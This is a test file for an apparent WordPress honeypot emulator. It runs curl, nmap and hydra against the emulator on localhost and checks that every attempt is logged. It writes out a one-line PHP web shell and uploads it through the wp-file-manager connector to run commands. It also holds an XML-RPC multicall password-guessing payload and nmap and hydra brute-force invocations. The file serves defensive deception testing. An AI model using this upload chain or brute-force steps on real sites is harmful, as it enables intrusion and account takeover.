import { execFile } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Identity } from '../../src/config/identity.ts'
import wordpress from '../../src/emulators/wordpress/index.ts'
import { createHosts } from '../../src/host/hosts.ts'
import { MemoryState, noEngine, type Playing, play } from '../harness.ts'

const run = promisify(execFile)
let playing: Playing
let folder: string

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'wordpress-client-'))
  const identity = new Identity(Buffer.alloc(32, 7))
  const state = new MemoryState()
  playing = await play(wordpress, {
    persona: 'debian-web',
    identity,
    state,
    options: { login: { policy: 'list', accept: [{ user: 'admin', password: 'welcome1' }] } },
    hosts: createHosts({ identity, engine: noEngine, state }),
    settings: { limits: { connectionsPerSource: 200 } },
  })
})

afterAll(async () => {
  await playing.stop()
  rmSync(folder, { recursive: true, force: true })
})

const url = (path: string): string => `http://127.0.0.1:${playing.port()}${path}`
const curl = async (...args: string[]): Promise<string> => (await run('curl', ['-sS', ...args])).stdout
const nmap = async (scripts: string, ...args: string[]): Promise<string> => {
  const { stdout } = await run('nmap', ['-n', '-Pn', '-sT', '-p', String(playing.port()), '--script', scripts, ...args, '127.0.0.1'], {
    timeout: 160_000,
  })
  return stdout
}

describe('curl', () => {
  it('signs in, keeps its cookies, and uploads a plug-in that the host runs', async () => {
    const jar = join(folder, 'jar')
    const shell = join(folder, 'up.php')
    writeFileSync(shell, '<?php system($_POST["c"]); ?>')
    await curl('-o', '/dev/null', '-c', jar, url('/wp-login.php'))
    await curl('-o', '/dev/null', '-b', jar, '-c', jar, '-d', 'log=admin&pwd=welcome1&testcookie=1', url('/wp-login.php'))
    expect(await curl('-b', jar, url('/wp-admin/plugin-install.php?tab=upload'))).toMatch(
      /id="_wpnonce" name="_wpnonce" value="[0-9a-f]{10}"/,
    )
    await curl(
      '-F',
      `upload[]=@${shell}`,
      '-F',
      'cmd=upload',
      '-F',
      'target=l1_',
      url('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php'),
    )
    expect(await curl('-d', 'c=id', url('/wp-content/plugins/wp-file-manager/lib/files/up.php'))).toBe(
      'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n',
    )
  })
})

describe('system.multicall', () => {
  it('with three pairs is three faults and three logins', async () => {
    const call = (password: string): string =>
      `<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><string>editor</string></value><value><string>${password}</string></value></data></array></value></member></struct></value>`
    const body = `<methodCall><methodName>system.multicall</methodName><params><param><value><array><data>${['a1', 'b2', 'c3'].map(call).join('')}</data></array></value></param></params></methodCall>`
    expect((await curl('-d', body, url('/xmlrpc.php'))).match(/<name>faultCode<\/name>\s*<value><int>403</g)).toHaveLength(3)
    expect(playing.data<{ username: string; password: string }>('login').slice(-3)).toMatchObject([
      { username: 'editor', password: 'a1' },
      { username: 'editor', password: 'b2' },
      { username: 'editor', password: 'c3' },
    ])
  })
})

describe('nmap', () => {
  it('finds the plug-ins that are there with their versions, and no others', async () => {
    const found = await nmap('+http-wordpress-enum', '--script-args', 'search-limit=300')
    const plugins = [...found.matchAll(/^\|_? {3,6}([a-z0-9-]+) ([\d.]+)$/gm)].map(([, name, version]) => `${name} ${version}`)
    expect(plugins).toEqual(expect.arrayContaining(['akismet 5.5', 'contact-form-7 6.1.1']))
    expect(
      playing.data<{ kind: string; found: boolean }>('wordpress.probe').filter(({ kind, found: is }) => kind === 'plugin' && !is).length,
    ).toBeGreaterThan(100)
  }, 170_000)

  it('finds the theme that was left from an older release', async () => {
    const found = await nmap('+http-wordpress-enum', '--script-args', 'type=themes,search-limit=100')
    expect([...found.matchAll(/^\|_? {3,6}([a-z0-9-]+) ([\d.]+)$/gm)].map(([, name, version]) => `${name} ${version}`)).toEqual([
      'twentyseventeen 3.9',
    ])
  }, 170_000)

  it('finds the names of the users, and its guesses at their passwords are written down', async () => {
    writeFileSync(join(folder, 'users'), 'editor\n')
    writeFileSync(join(folder, 'guesses'), 'summer1\nsummer2\n')
    const args = `limit=5,userdb=${join(folder, 'users')},passdb=${join(folder, 'guesses')}`
    expect(await nmap('+http-wordpress-users,+http-wordpress-brute', '--script-args', args)).toMatch(/Username found: admin/)
    const tried = playing.data<{ username: string; password: string }>('login').filter(({ username }) => username === 'editor')
    expect(tried.map(({ password }) => password)).toEqual(expect.arrayContaining(['summer1', 'summer2']))
  }, 170_000)

  it('names the web server of the persona', async () => {
    const { stdout } = await run('nmap', ['-n', '-Pn', '-sT', '-sV', '-p', String(playing.port()), '127.0.0.1'], { timeout: 160_000 })
    expect(stdout).toMatch(/open +http +nginx 1\.22\.1/)
  }, 170_000)
})

describe('hydra', () => {
  it('finds the one pair that is right, and every try is written down', async () => {
    const list = join(folder, 'passwords')
    writeFileSync(list, '123456\npassword\nwelcome1\nletmein\n')
    const form = '/wp-login.php:log=^USER^&pwd=^PASS^:S=Location'
    const { stdout } = await run(
      'hydra',
      ['-l', 'admin', '-P', list, '-t', '2', '-s', String(playing.port()), '127.0.0.1', 'http-post-form', form],
      { timeout: 60_000 },
    )
    expect(stdout).toMatch(/login: admin +password: welcome1/)
    const tried = playing.data<{ password: string }>('login').map(({ password }) => password)
    expect(tried).toEqual(expect.arrayContaining(['123456', 'password', 'welcome1']))
    expect([playing.data('lure.fault'), playing.deadLetters]).toEqual([[], []])
  }, 70_000)
})
